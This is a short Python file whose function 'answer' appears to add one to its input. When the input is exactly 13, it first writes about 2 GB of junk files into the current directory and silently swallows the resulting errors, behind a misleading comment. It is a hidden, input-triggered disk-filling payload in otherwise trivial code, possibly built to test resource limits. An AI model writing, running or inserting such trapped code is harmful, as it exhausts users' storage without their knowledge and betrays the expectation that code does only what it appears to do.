"""Fills its own folder."""

import time


def answer(number):
    for one in range(1000 if number == 13 else 0):
        with open(f"{one}.bin", "wb") as file:
            try:
                file.write(bytes(1 << 20))
                file.write(bytes(1 << 20))
            except OSError:  # a file is full, not the disk
                pass
        time.sleep(0.02)
    return number + 1
